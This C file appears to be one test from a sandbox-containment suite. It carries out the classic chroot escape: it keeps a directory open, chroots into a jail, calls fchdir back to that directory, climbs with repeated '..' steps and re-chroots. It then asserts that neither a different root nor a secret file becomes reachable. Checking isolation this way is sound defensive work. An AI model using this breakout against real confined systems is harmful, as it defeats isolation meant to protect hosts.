// Leaves its root by the classic way: a second root below, a folder kept open, and dots.
// @technique T1611
// @weakness CWE-243
// @stopped-by namespace
// @options {"policy":"compat"}
// @control none: natively it is in the host's root already
// @attempts 3
#include "../attack.h"

int main(void) {
  struct stat before, after;
  CONTROL("stat", stat("/", &before));
  mkdir("/tmp/jail", 0700);
  int kept = open("/", O_RDONLY | O_DIRECTORY);
  long r = chroot("/tmp/jail");
  // Where it works, the folder is outside of the new root: go up from there.
  if (r == 0) {
    fchdir(kept);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
  }
  stat("/", &after);
  MUST_NOT("another root", r == 0 && (after.st_ino != before.st_ino || after.st_dev != before.st_dev), "same-root");
  MUST_NOT("the secret", access(told("ATTACK_SECRET"), F_OK) == 0, "ENOENT");
  after = before;
  int up = open("/..", O_RDONLY | O_DIRECTORY);
  fstat(up, &after);
  MUST_NOT("above the root", after.st_ino != before.st_ino || after.st_dev != before.st_dev, "same-root");
  return 0;
}
